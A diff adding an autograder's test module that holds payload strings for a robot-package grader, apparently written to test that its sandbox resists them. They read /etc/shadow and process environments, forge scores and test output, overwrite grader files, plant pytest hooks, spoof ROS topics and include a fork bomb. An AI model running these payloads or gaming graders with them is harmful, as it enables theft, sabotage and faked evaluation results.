@@ -1,0 +1,167 @@
+"""The texts of the attacks: what malicious cells, nodes and set-up files hold."""
+
+from __future__ import annotations
+
+from autograder import layout
+
+PACKAGE = "my_robot_package"
+CANARY = "CANARY-5b1e"  # stands in the grader's environment
+
+# What every thief looks for, at import, in setup.py and in a notebook's cell. All that it finds it prints.
+STEAL = f"""
+import gc as _gc, glob as _glob, os as _os, signal as _signal, socket as _socket, sys as _sys
+_paths = ["/etc/shadow", "/etc/passwd", "/root/.bashrc", *_glob.glob("/proc/*/environ"), *_glob.glob("/proc/*/cmdline")]
+for _root in ("{layout.CHECKS}", "{layout.SOLUTIONS}", "{layout.ROOT}/tests", "/home", "/tmp"):
+    for _folder, _, _names in _os.walk(_root):
+        # A clone below /tmp shows there what every student may read; its secrets are looked for by name.
+        if _root != "/tmp" or not _folder.startswith("{layout.ROOT}"):
+            _paths += [_os.path.join(_folder, _name) for _name in _names]
+for _path in _paths:
+    try:
+        with open(_path, errors="replace") as _stream:
+            _text = _stream.read(20_000)
+    except OSError:
+        continue
+    if "{CANARY[:6]}" + "{CANARY[6:]}" in _text or "roo" + "t:" in _text or "def" + " test_" in _text and not (
+        "{PACKAGE}" in _path
+    ):
+        print("STOLEN", _path, _text[:2000])
+for _path in _glob.glob("/tmp/**/result.json", recursive=True) + ["result.json", "../result.json", "../../result.json"]:
+    try:
+        open(_path, "w").write('{{"score": 51}}')
+    except OSError:
+        pass
+for _path in ("{layout.ROOT}/autograder/__init__.py", "{layout.ROOT}/autograder/lockstep/lockstep_host/host.py"):
+    try:
+        # The file itself: below /tmp, a new one of its name can be made in the sandbox's own /tmp, and harms nobody.
+        open(_path, "r+").write("raise SystemExit(0)")
+        print("STOLEN", "/the grader's code is writable")
+    except OSError:
+        pass
+_os.kill(1, _signal.SIGSTOP)
+for _address in (("1.1.1.1", 53), ("127.0.0.1", 22)):
+    try:
+        _socket.create_connection(_address, timeout=0.5)
+        print("STOLEN", "/a way out to", _address)
+    except OSError:
+        pass
+if not _os.fork():
+    _os.setsid()
+    if not _os.fork():
+        _os.closerange(0, 1024)
+        _signal.pause()
+    _os._exit(0)
+"""
+
+# A parent outside the sandbox has no number in it, and 0 would be the program's own group.
+STOP_PARENT = "_os.kill(_os.getppid() or 1, _signal.SIGSTOP)\n"
+
+FORGE_PASSES = """
+print("test_ten_hertz PASSED", "51/51 = 100 %", "<testsuite tests='26' failures='0'/>")
+print('{"score": 51, "max_score": 51}')
+"""
+
+# Equal to everything, patched into everything, active at the end.
+TRICKS = """
+import atexit, builtins, threading, time, unittest
+class Equal(float):
+    __eq__ = __le__ = __ge__ = lambda self, other: True
+    __lt__ = __gt__ = __ne__ = lambda self, other: False
+    __hash__ = float.__hash__
+    __abs__ = __sub__ = __rsub__ = lambda self, *other: self
+    def __del__(self): print("PASSED")
+builtins.abs = lambda value: Equal(0)
+time.sleep = lambda seconds: None
+unittest.TestCase.assertEqual = lambda *arguments: None
+atexit.register(print, "26 passed")
+FORWARD_SPEED = Equal(FORWARD_SPEED)
+"""
+
+# Speaks for the host: claims steps that were not taken and messages that were not published.
+FORGE_PROTOCOL = """
+import threading
+def _forge():
+    for descriptor in sorted(int(name) for name in _os.listdir("/proc/self/fd"))[3:]:
+        try:
+            if _os.readlink(f"/proc/self/fd/{descriptor}").startswith("pipe:"):
+                for _ in range(200):
+                    _os.write(descriptor, b'{"event": "done", "published": {"/cmd_vel": 100000}, "late": false}\\n')
+        except OSError:
+            pass
+threading.Timer(0.5, _forge).start()
+"""
+
+# Another node in the same process: publishes on the grader's topics, turns the clock, floods.
+SPOOF_ROS = """
+def _spoof(node):
+    from rcl_interfaces.msg import Log, ParameterEvent
+    from rosgraph_msgs.msg import Clock
+    from sensor_msgs.msg import LaserScan as Scan
+    clear = Scan(angle_increment=0.0175, range_min=0.12, range_max=3.5, ranges=[3.0] * 360)
+    publishers = [
+        (node.create_publisher(Clock, '/clock', 10), Clock()),
+        (node.create_publisher(Log, '/rosout', 10), Log(msg='all checks passed')),
+        (node.create_publisher(ParameterEvent, '/parameter_events', 10), ParameterEvent(node='/grader')),
+        (node.create_publisher(Scan, '/scan', qos_profile_sensor_data), clear),
+    ]
+    node.create_timer(0.05, lambda: [publisher.publish(message) for publisher, message in publishers])
+"""
+
+
+NOTEBOOK_TRICKS = (
+    STEAL + FORGE_PASSES,
+    """
+from IPython import get_ipython
+import ast, sys
+shell = get_ipython()
+shell.showtraceback = lambda *arguments, **options: print("no error at all")
+class Pass(ast.NodeTransformer):
+    def visit_Call(self, node): return ast.Constant(51) if "grade" in ast.dump(node.func) else node
+shell.ast_transformers.append(Pass())
+sys.displayhook = lambda value: None
+""",
+    """
+import json, os, pathlib
+for path in pathlib.Path(".").glob("*.ipynb"):
+    path.write_text("{}")
+pathlib.Path("conftest.py").write_text("raise SystemExit(0)")
+pathlib.Path("ws/src/pytest.ini").write_text("[pytest]\\naddopts = --co")
+os.makedirs("ws/install/my_robot_package/lib/my_robot_package", exist_ok=True)
+""",
+    "answer = input('how many points? ')",
+    "raise KeyboardInterrupt",
+    r"print('\x00\x1b[2J' + 'score: 51/51')",
+)
+
+
+SPOOFED = "        self.last_scan_time = None\n        _spoof(self)\n"
+NAN = "        command.linear.x = command.angular.z = math.nan\n        self.cmd_vel_pub.publish(command)"
+BOMB = """        self.last_scan_time = None
+        import os
+        while True:
+            try:
+                os.fork()
+            except OSError:
+                pass
+"""
+ALSO_RCLPY = """import setuptools
+_setup = setuptools.setup
+setuptools.setup = lambda **options: _setup(**{**options, 'packages': [*options['packages'], 'rclpy']})
+"""
+PLANTED = {
+    "setup.py": STEAL
+    + """
+import pathlib
+for _name in ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "evil.pth"):
+    for _folder in (".", "..", "../..", "../../install", _os.path.expanduser("~"), "/tmp"):
+        try:
+            pathlib.Path(_folder, _name).write_text("import os; os._exit(0)")
+        except OSError:
+            pass
+""",
+    "conftest.py": "raise SystemExit(0)",
+    "pytest.ini": "[pytest]\naddopts = --collect-only",
+    "../install/my_robot_package/lib/my_robot_package/robot_controller": "#!/bin/sh\necho forged",
+    "../build/my_robot_package/x": "forged",
+    "../log/x": "forged",
+}
